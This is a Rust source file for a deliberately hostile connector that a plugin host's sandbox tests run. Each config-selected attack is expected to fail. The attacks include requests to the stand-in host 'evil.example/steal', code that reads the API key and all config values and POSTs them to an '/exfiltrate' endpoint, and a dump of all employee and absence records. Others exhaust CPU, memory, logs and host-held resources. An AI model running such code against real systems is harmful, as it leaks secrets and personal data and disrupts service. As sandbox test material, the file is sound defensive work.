//! A hostile connector for the host's sandbox tests. The `attack` config
//! value picks what it tries; each attempt must fail without harming the
//! host or the next run.

use lockgate_sdk::attendances::{self, AttendanceQuery};
use lockgate_sdk::bindings::wasi::http::types::{Fields, OutgoingRequest};
use lockgate_sdk::http::HttpError;
use lockgate_sdk::prelude::*;

struct Hostile;

fn spin() -> u64 {
    let mut n: u64 = 0;
    loop {
        n = std::hint::black_box(n.wrapping_add(1));
        if n == u64::MAX {
            return n;
        }
    }
}

fn recurse(depth: u64) -> u64 {
    if std::hint::black_box(depth) == u64::MAX {
        return 0;
    }
    recurse(depth + 1).wrapping_mul(3).wrapping_add(depth)
}

fn request(url: &str) -> Result<(), Error> {
    match http::get(url).send() {
        Ok(res) => Err(Error::other(format!(
            "request to {url} got through with status {}",
            res.status
        ))),
        Err(e @ HttpError::Denied(_)) => {
            // What the SDK tells the connector, for the tests to check.
            log::warn(&format!("sdk: {e}"));
            Err(Error::Unreachable(e.to_string()))
        }
        Err(e) => Err(Error::Unreachable(e.to_string())),
    }
}

fn count(default: u64) -> u64 {
    config::get("count")
        .and_then(|c| c.parse().ok())
        .unwrap_or(default)
}

/// A header map with `header-kib` headers of 1000 bytes each (24 unless
/// configured): what one `fields` resource makes the host hold.
fn full_fields() -> Fields {
    let headers: usize = config::get("header-kib")
        .and_then(|c| c.parse().ok())
        .unwrap_or(24);
    let fields = Fields::new();
    let value = vec![b'v'; 1000];
    for i in 0..headers {
        if fields.append(&format!("x-pad-{i}"), &value).is_err() {
            break;
        }
    }
    fields
}

/// The host's answer as a row text: `denied: …`, `not-found: …`.
fn refusal(e: &HostError) -> String {
    match e {
        HostError::Denied(m) => format!("denied: {m}"),
        HostError::InvalidArgument(m) => format!("invalid-argument: {m}"),
        HostError::LimitExceeded(m) => format!("limit-exceeded: {m}"),
        HostError::NotFound(m) => format!("not-found: {m}"),
        HostError::Unavailable(m) => format!("unavailable: {m}"),
    }
}

impl Connector for Hostile {
    fn sync(_trigger: Trigger) -> Result<(), Error> {
        let attack = config::get("attack").unwrap_or_default();
        let target = config::require("target")?;
        match attack.as_str() {
            "none" => Ok(()),
            "loop" => Err(Error::other(format!("loop ended at {}", spin()))),
            "memory" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![7u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "recursion" => Err(Error::other(format!("recursion ended at {}", recurse(0)))),
            "ungranted-host" => request("https://evil.example/steal"),
            // The target is granted, but what it resolves to may not be.
            "granted-host" => request(&format!("https://{target}/")),
            "plain-http" => request(&format!("http://{target}/")),
            "read-secret" => {
                // Try every way to read the secret, then send whatever was
                // found to the (granted) partner.
                let found = serde_json::json!({
                    "get": config::get("api-key"),
                    "all": config::all(),
                });
                let res = http::post(&format!("http://{target}/exfiltrate"))
                    .json(&found)?
                    .send()?;
                log::info(&format!("exfiltration answered {}", res.status));
                Ok(())
            }
            "flood" => {
                let mut rows = Outcomes::new();
                let mut n = 0u64;
                loop {
                    n += 1;
                    if let Err(e) = rows.push(Outcome::success(
                        &format!("e-{n}"),
                        Operation::Update,
                        "flood",
                    )) {
                        log::warn(&format!("host refused rows: {e}; flooding on"));
                    }
                }
            }
            "panic" => panic!("the connector gave up"),
            "dump" => {
                // Ask for everything; send what the host handed out.
                let employees: Vec<_> = hr::employees(EmployeeQuery::default())
                    .map(|e| e.map(|e| format!("{e:?}")))
                    .collect::<Result<_, _>>()?;
                // Ask far wider than the granted window.
                let absences: Vec<String> =
                    hr::absences(AbsenceQuery::between("1900-01-01", "2999-12-31"))
                        .map(|a| {
                            a.map(|a| {
                                format!(
                                    "{} {} {} {}",
                                    a.id, a.employee_id, a.start_date, a.end_date
                                )
                            })
                        })
                        .collect::<Result<_, _>>()?;
                let body = serde_json::json!({ "employees": employees, "absences": absences });
                http::post(&format!("http://{target}/dump"))
                    .json(&body)?
                    .send()?;
                Ok(())
            }
            "big-response" => {
                let res = http::get(&format!("http://{target}/big")).send()?;
                Err(Error::other(format!(
                    "read {} bytes past the cap",
                    res.body.len()
                )))
            }
            "big-headers" => match http::get(&format!("http://{target}/big-headers")).send() {
                Ok(res) => Err(Error::other(format!(
                    "an answer with {} header bytes got through",
                    res.headers
                        .iter()
                        .map(|(k, v)| k.len() + v.len())
                        .sum::<usize>()
                ))),
                Err(e) => Err(Error::Unreachable(e.to_string())),
            },
            "redirect" => {
                // The host must hand the redirect back, not follow it.
                let res = http::get(&format!("http://{target}/redirect")).send()?;
                let location = res.header("location").unwrap_or("").to_string();
                log::info(&format!("redirect answered {} to {location}", res.status));
                Ok(())
            }
            "chatty" => {
                for i in 0..20_000 {
                    log::info(&format!("line {i}: {}", "x".repeat(80)));
                    println!("stdout line {i}: {}", "y".repeat(80));
                }
                Ok(())
            }
            "deny-loop" => {
                // Ask for an ungranted host until the deadline ends the run:
                // every refusal must cost the host nothing lasting.
                let mut n = 0u64;
                loop {
                    n = n.wrapping_add(1);
                    let _ = std::hint::black_box(http::get("https://evil.example/steal").send());
                }
            }
            "hold-fields" => {
                // Header maps live in the host, outside the guest's memory
                // limit; the guest keeps only their handles.
                let mut held = Vec::new();
                for _ in 0..count(3_000) {
                    held.push(full_fields());
                }
                log::info(&format!("holding {} header maps", held.len()));
                Ok(())
            }
            "hold-requests" => {
                // Outgoing requests with full headers, long strings and a
                // body written as far as the host allows, never sent.
                let authority = "a".repeat(64 << 10);
                let probe = OutgoingRequest::new(Fields::new());
                let verdict = match probe.set_authority(Some(&authority)) {
                    Ok(()) => "accepted",
                    Err(()) => "refused",
                };
                log::info(&format!(
                    "an authority of {} bytes was {verdict}",
                    authority.len()
                ));
                drop(probe);
                let path = format!("/{}", "p".repeat(60_000));
                let chunk = vec![b'b'; 64 << 10];
                let mut held = Vec::new();
                for _ in 0..count(300) {
                    let request = OutgoingRequest::new(full_fields());
                    let _ = request.set_authority(Some(&authority));
                    let _ = request.set_path_with_query(Some(&path));
                    let Ok(body) = request.body() else {
                        return Err(Error::other("request body refused"));
                    };
                    let Ok(stream) = body.write() else {
                        return Err(Error::other("body stream refused"));
                    };
                    while let Ok(room) = stream.check_write() {
                        if room == 0
                            || stream
                                .write(&chunk[..chunk.len().min(room as usize)])
                                .is_err()
                        {
                            break;
                        }
                    }
                    held.push((request, body, stream));
                }
                log::info(&format!("holding {} requests", held.len()));
                Ok(())
            }
            "exit" => {
                // Leave mid-call: rows reported so far stay, the staged
                // state must not be committed.
                lockgate_sdk::outcomes::report(&Outcome::success(
                    "e-exit",
                    Operation::Update,
                    "before exit",
                ))?;
                state::set("set before exit")?;
                let code = config::get("code")
                    .and_then(|c| c.parse().ok())
                    .unwrap_or(3);
                std::process::exit(code)
            }
            "read-attendances" => {
                // Working time without the attendances.read scope: every
                // period there is, and the one named by `record`. One row
                // per call with what the host answered.
                let listed = match attendances::attendances(AttendanceQuery::between(
                    "1900-01-01",
                    "2999-12-31",
                ))
                .next()
                {
                    None => Ok("ok: no period".to_string()),
                    Some(found) => found.map(|a| format!("ok: {}", a.id)),
                };
                let record = config::get("record").unwrap_or_default();
                let one = attendances::attendance(&record).map(|a| format!("ok: {}", a.id));
                let mut rows = Outcomes::new();
                for (call, answer) in [("fetch-attendances", listed), ("get-attendance", one)] {
                    rows.push(match answer {
                        Ok(got) => Outcome::success(call, Operation::Update, &got),
                        Err(e) => Outcome::failed(call, Operation::Update, &refusal(&e)),
                    })?;
                }
                rows.finish()
            }
            "host-calls" => {
                // Cheap host calls, for measuring their cost.
                let count: u64 = config::get("count")
                    .and_then(|c| c.parse().ok())
                    .unwrap_or(0);
                let mut seen = 0usize;
                for _ in 0..count {
                    seen += config::get("target").map_or(0, |t| t.len());
                }
                std::hint::black_box(seen);
                Ok(())
            }
            other => Err(Error::config("attack", format!("unknown attack {other}"))),
        }
    }
}

lockgate_sdk::export_connector!(Hostile);
